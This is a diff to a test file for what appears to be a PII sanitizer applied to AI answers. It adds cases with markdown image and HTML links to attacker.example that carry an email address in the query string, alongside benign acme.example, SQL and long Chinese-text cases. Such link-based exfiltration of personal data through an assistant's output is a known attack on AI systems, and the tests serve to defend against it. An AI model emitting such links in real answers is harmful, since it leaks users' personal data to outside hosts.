@@ -62,6 +62,8 @@ describe('pii-sanitizer at the edges of an answer', () => {
       // A destination in angle brackets, and an HTML attribute's value, may hold blanks.
       '![s](<https://attacker.example/a b.png?m=[EMAIL_1]>)',
       '<img src="https://attacker.example/p.png?q=a b&m=[EMAIL_1]">',
+      // A link after one a single quote closed.
+      "urls = ['https://acme.example/a','https://attacker.example/?m=[EMAIL_1]']",
     ];
     for (const link of links) {
       for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
@@ -77,6 +79,11 @@ describe('pii-sanitizer at the edges of an answer', () => {
       "Our site is 'https://acme.example' and you are [EMAIL_1].",
       '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
       `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
+      // A single quote closes the link it opened, in code's lists, dicts and SQL.
+      "urls = ['https://acme.example/profile','[EMAIL_1]']",
+      "INSERT INTO t VALUES('https://acme.example/a','[EMAIL_1]');",
+      // Prose without blanks (Chinese, Japanese) longer than what is read back before a placeholder is no link.
+      `${'张'.repeat(2100)}，联系人是[EMAIL_1]。`,
     ];
     for (const text of texts) {
       for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
